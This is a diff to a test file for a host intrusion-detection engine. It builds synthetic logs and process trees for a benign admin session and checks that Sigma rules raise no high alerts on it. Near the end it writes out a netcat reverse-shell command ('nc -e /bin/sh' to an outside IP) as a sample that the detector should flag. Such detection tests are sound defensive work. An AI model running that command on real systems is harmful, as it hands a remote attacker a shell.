@@ -85,21 +85,38 @@ exit 0
 }
 
 const proc = (t: number, pid: number, ppid: number, exe: string, commandLine: string, parentExe: string, parentCommandLine: string, user = "root"): EventBody =>
-  ({ $case: "process", process: { action: ProcessAction.PROCESS_ACTION_START, pid, ppid, exe, commandLine, parentExe, parentCommandLine, user, uid: user === "root" ? 0 : 1000, name: exe.split("/").pop()!, cwd: "/" } }) as EventBody;
+  ({
+    $case: "process",
+    process: { action: ProcessAction.PROCESS_ACTION_START, pid, ppid, exe, commandLine, parentExe, parentCommandLine, user, uid: user === "root" ? 0 : 1000, name: exe.split("/").pop()!, cwd: "/" },
+  }) as EventBody;
 const file = (path: string, exe: string): EventBody =>
-  ({ $case: "file", file: { action: FileAction.FILE_ACTION_CREATE, path, oldPath: "", sha256After: "", sha256Before: "", size: 100, mode: 0o644, modeBefore: 0, uid: 0, gid: 0, exe, pid: 7000, user: "root" } }) as EventBody;
+  ({
+    $case: "file",
+    file: { action: FileAction.FILE_ACTION_CREATE, path, oldPath: "", sha256After: "", sha256Before: "", size: 100, mode: 0o644, modeBefore: 0, uid: 0, gid: 0, exe, pid: 7000, user: "root" },
+  }) as EventBody;
 
 const auth = (action: AuthAction, service: string, user: string, raw: string, extra: Record<string, unknown> = {}): EventBody =>
-  ({ $case: "auth", auth: { action, user, targetUser: "", groupName: "", sourceIp: "", sourcePort: 0, method: "", pid: 6001, service, command: "", tty: "", hostname: "web1", raw, ...extra } }) as EventBody;
+  ({
+    $case: "auth",
+    auth: { action, user, targetUser: "", groupName: "", sourceIp: "", sourcePort: 0, method: "", pid: 6001, service, command: "", tty: "", hostname: "web1", raw, ...extra },
+  }) as EventBody;
 const log = (program: string, message: string): EventBody =>
   ({ $case: "log", log: { log: "syslog", program, pid: 5001, hostname: "web1", message, raw: `Dec  3 10:00:01 web1 ${program}[5001]: ${message}` } }) as EventBody;
 
 /** The auth.log and syslog lines of the same session, as Debian's sshd, PAM, sudo, cron and useradd write them. */
 function writtenLogs(): EventBody[] {
   return [
-    auth(AuthAction.AUTH_ACTION_LOGIN_SUCCESS, "sshd", "alice", "Accepted publickey for alice from 10.0.0.5 port 52144 ssh2: ED25519 SHA256:Zm9vYmFyYmF6", { sourceIp: "10.0.0.5", sourcePort: 52144, method: "publickey" }),
+    auth(AuthAction.AUTH_ACTION_LOGIN_SUCCESS, "sshd", "alice", "Accepted publickey for alice from 10.0.0.5 port 52144 ssh2: ED25519 SHA256:Zm9vYmFyYmF6", {
+      sourceIp: "10.0.0.5",
+      sourcePort: 52144,
+      method: "publickey",
+    }),
     auth(AuthAction.AUTH_ACTION_SESSION_OPEN, "sshd", "alice", "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)", { method: "pam_unix" }),
-    auth(AuthAction.AUTH_ACTION_SUDO, "sudo", "alice", "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get install -y nginx", { targetUser: "root", command: "/usr/bin/apt-get install -y nginx", tty: "pts/0" }),
+    auth(AuthAction.AUTH_ACTION_SUDO, "sudo", "alice", "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get install -y nginx", {
+      targetUser: "root",
+      command: "/usr/bin/apt-get install -y nginx",
+      tty: "pts/0",
+    }),
     auth(AuthAction.AUTH_ACTION_SESSION_OPEN, "sudo", "root", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)", { method: "pam_unix" }),
     auth(AuthAction.AUTH_ACTION_ACCOUNT_CREATED, "useradd", "www-data", "new user: name=nginx, UID=998, GID=998, home=/nonexistent, shell=/usr/sbin/nologin, from=none"),
     auth(AuthAction.AUTH_ACTION_SESSION_CLOSE, "sshd", "alice", "pam_unix(sshd:session): session closed for user alice", { method: "pam_unix" }),
@@ -107,7 +124,7 @@ function writtenLogs(): EventBody[] {
     log("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
     log("systemd", "Starting nginx.service - A high performance web server and a reverse proxy server..."),
     log("systemd", "Started nginx.service - A high performance web server and a reverse proxy server."),
-    log("kernel", "audit: type=1400 audit(1733220001.123:42): apparmor=\"STATUS\" operation=\"profile_replace\" name=\"nginx\""),
+    log("kernel", 'audit: type=1400 audit(1733220001.123:42): apparmor="STATUS" operation="profile_replace" name="nginx"'),
   ];
 }
 
@@ -129,9 +146,33 @@ function writtenTrees(t: number): EventBody[] {
     // an SSH login: sshd's privilege-separated children, the login shell and what /etc/profile and .bashrc run
     proc(t, 6001, 800, "/usr/sbin/sshd", "sshd: alice [priv]", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
     proc(t, 6002, 6001, "/usr/sbin/sshd", "sshd: alice@pts/0", "/usr/sbin/sshd", "sshd: alice [priv]", "alice"),
-    proc(t, 6003, 6001, SH, "sh -c /usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new", "/usr/sbin/sshd", "sshd: alice [priv]"),
-    proc(t, 6004, 6003, "/usr/bin/env", "/usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d", SH, "sh -c /usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new"),
-    proc(t, 6005, 6004, "/usr/bin/run-parts", "run-parts --lsbsysinit /etc/update-motd.d", "/usr/bin/env", "/usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d"),
+    proc(
+      t,
+      6003,
+      6001,
+      SH,
+      "sh -c /usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new",
+      "/usr/sbin/sshd",
+      "sshd: alice [priv]",
+    ),
+    proc(
+      t,
+      6004,
+      6003,
+      "/usr/bin/env",
+      "/usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d",
+      SH,
+      "sh -c /usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new",
+    ),
+    proc(
+      t,
+      6005,
+      6004,
+      "/usr/bin/run-parts",
+      "run-parts --lsbsysinit /etc/update-motd.d",
+      "/usr/bin/env",
+      "/usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d",
+    ),
     proc(t, 6006, 6005, "/usr/bin/uname", "uname -snrvm", "/usr/bin/run-parts", "run-parts --lsbsysinit /etc/update-motd.d"),
     proc(t, 6007, 6002, "/usr/bin/bash", "-bash", "/usr/sbin/sshd", "sshd: alice@pts/0", "alice"),
     proc(t, 6008, 6007, "/usr/bin/id", "id -u", "/usr/bin/bash", "-bash", "alice"),
@@ -143,7 +184,15 @@ function writtenTrees(t: number): EventBody[] {
     proc(t, 6014, 6013, "/usr/bin/bash", "-bash", "/usr/bin/sudo", "sudo -i"),
     // an apt-get install and the dpkg maintainer scripts it runs
     proc(t, 7001, 6014, "/usr/bin/apt-get", "apt-get install -y nginx", "/usr/bin/bash", "-bash"),
-    proc(t, 7002, 7001, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 37 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/nginx_1.22.1-9_amd64.deb", "/usr/bin/apt-get", "apt-get install -y nginx"),
+    proc(
+      t,
+      7002,
+      7001,
+      "/usr/bin/dpkg",
+      "/usr/bin/dpkg --status-fd 37 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/nginx_1.22.1-9_amd64.deb",
+      "/usr/bin/apt-get",
+      "apt-get install -y nginx",
+    ),
     proc(t, 7003, 7001, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 37 --configure --pending", "/usr/bin/apt-get", "apt-get install -y nginx"),
     proc(t, 7004, 7003, SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 37 --configure --pending"),
     proc(t, 7005, 7004, "/usr/sbin/adduser", "/usr/bin/perl -w /usr/sbin/adduser --system --group --no-create-home www-data", SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure"),
@@ -153,7 +202,15 @@ function writtenTrees(t: number): EventBody[] {
     proc(t, 7009, 7004, "/usr/bin/systemctl", "systemctl --system daemon-reload", SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure"),
     proc(t, 7010, 7004, "/usr/sbin/invoke-rc.d", "/bin/sh /usr/sbin/invoke-rc.d nginx start", SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure"),
     proc(t, 7011, 7003, "/usr/sbin/ldconfig", "/sbin/ldconfig", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 37 --configure --pending"),
-    proc(t, 7012, 7003, "/usr/bin/update-alternatives", "update-alternatives --install /usr/sbin/nginx nginx /usr/sbin/nginx-full 100", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 37 --configure --pending"),
+    proc(
+      t,
+      7012,
+      7003,
+      "/usr/bin/update-alternatives",
+      "update-alternatives --install /usr/sbin/nginx nginx /usr/sbin/nginx-full 100",
+      "/usr/bin/dpkg",
+      "/usr/bin/dpkg --status-fd 37 --configure --pending",
+    ),
     file("/lib/systemd/system/nginx.service", "/usr/bin/dpkg"),
     file("/etc/logrotate.d/nginx", "/usr/bin/dpkg"),
     file("/etc/cron.daily/apt-compat", "/usr/bin/dpkg"),
@@ -207,24 +264,35 @@ describe.skipIf(skipReason !== null)("benign admin workload through the built-in
     const ours = (): EventBody[] => {
       const tree = new Set([rootPid]);
       const starts = sink.flatMap((e) => (e.body.$case === "process" && e.body.process.action === ProcessAction.PROCESS_ACTION_START ? [e.body.process] : []));
-      for (let grew = true; grew; ) {
+      for (let grew = true; grew;) {
         grew = false;
         for (const p of starts) if (tree.has(p.ppid) && !tree.has(p.pid)) grew = tree.add(p.pid) !== undefined;
       }
       return sink
         .map((e) => e.body)
-        .filter((b) => (b.$case === "process" && b.process.action === ProcessAction.PROCESS_ACTION_START && tree.has(b.process.pid)) || (b.$case === "network" && tree.has(b.network.pid)) || b.$case === "file");
+        .filter(
+          (b) =>
+            (b.$case === "process" && b.process.action === ProcessAction.PROCESS_ACTION_START && tree.has(b.process.pid)) || (b.$case === "network" && tree.has(b.network.pid)) || b.$case === "file",
+        );
     };
     const wait = Date.now() + 10_000;
     const done = (all: EventBody[]) =>
-      all.some((b) => b.$case === "process" && b.process.commandLine.startsWith("rm -rf clone")) && (!existsSync("/usr/bin/curl") || all.some((b) => b.$case === "network" && b.network.exe.endsWith("/curl")));
+      all.some((b) => b.$case === "process" && b.process.commandLine.startsWith("rm -rf clone")) &&
+      (!existsSync("/usr/bin/curl") || all.some((b) => b.$case === "network" && b.network.exe.endsWith("/curl")));
     while (Date.now() < wait && !done(ours())) await new Promise((r) => setTimeout(r, 50));
     const captured = ours();
     const count = (k: string) => captured.filter((b) => b.$case === k).length;
-    console.log(`benign workload: ${count("process")} execs, ${count("network")} connections, ${count("file")} file events captured; ${writtenTrees(0).length} process/file events and ${writtenLogs().length} auth/syslog lines written (cron, sshd, sudo, dpkg)`);
+    console.log(
+      `benign workload: ${count("process")} execs, ${count("network")} connections, ${count("file")} file events captured; ${writtenTrees(0).length} process/file events and ${writtenLogs().length} auth/syslog lines written (cron, sshd, sudo, dpkg)`,
+    );
     expect(count("process")).toBeGreaterThan(60);
     expect(captured.some((b) => b.$case === "process" && b.process.exe.endsWith("/git") && b.process.parentExe.endsWith("/bash"))).toBe(true);
-    if (existsSync("/usr/bin/curl")) expect(captured.some((b) => b.$case === "network" && b.network.direction === Direction.DIRECTION_OUTBOUND && b.network.action === NetworkAction.NETWORK_ACTION_OPEN && b.network.exe.endsWith("/curl"))).toBe(true);
+    if (existsSync("/usr/bin/curl"))
+      expect(
+        captured.some(
+          (b) => b.$case === "network" && b.network.direction === Direction.DIRECTION_OUTBOUND && b.network.action === NetworkAction.NETWORK_ACTION_OPEN && b.network.exe.endsWith("/curl"),
+        ),
+      ).toBe(true);
     else console.log("no /usr/bin/curl here: the session made no connection to check");
 
     const { ruleset, errors } = compileRules([...BUILTIN_RULES, ...packSources({ ...SIGMAHQ_BUNDLED_PACK, origin: "bundled" })]);
@@ -238,12 +306,18 @@ describe.skipIf(skipReason !== null)("benign admin workload through the built-in
       if (ev) matches.push(...engine.process(ev));
     });
     matches.push(...engine.flush());
-    const summary = matches.map((m) => `${m.rule.level}${quiet.has(m.rule.id) ? " (quiet)" : ""} ${m.rule.title} <- ${String(m.events[0]?.fields.CommandLine ?? m.events[0]?.fields.TargetFilename ?? m.events[0]?.fields.Image ?? "")}`);
+    const summary = matches.map(
+      (m) =>
+        `${m.rule.level}${quiet.has(m.rule.id) ? " (quiet)" : ""} ${m.rule.title} <- ${String(m.events[0]?.fields.CommandLine ?? m.events[0]?.fields.TargetFilename ?? m.events[0]?.fields.Image ?? "")}`,
+    );
     console.log(`benign workload matches (${matches.length}):\n  ${[...new Set(summary)].join("\n  ") || "none"}`);
     expect(summary.filter((s) => /^(high|critical)/.test(s))).toEqual([]);
 
     // The same engine does fire on the real thing: a netcat reverse shell after the session.
-    const shell = toSigmaEvent(Event.fromPartial({ seq: 99_999, eventTimeMs: t + 99_999, body: proc(t, 9001, 6007, "/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444", "/usr/bin/bash", "-bash") }), { agentId: "benign", hostname: "benign" })!;
+    const shell = toSigmaEvent(
+      Event.fromPartial({ seq: 99_999, eventTimeMs: t + 99_999, body: proc(t, 9001, 6007, "/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444", "/usr/bin/bash", "-bash") }),
+      { agentId: "benign", hostname: "benign" },
+    )!;
     const fired = engine.process(shell).map((m) => m.rule.level);
     expect(fired).toContain("high");
   }, 60_000);
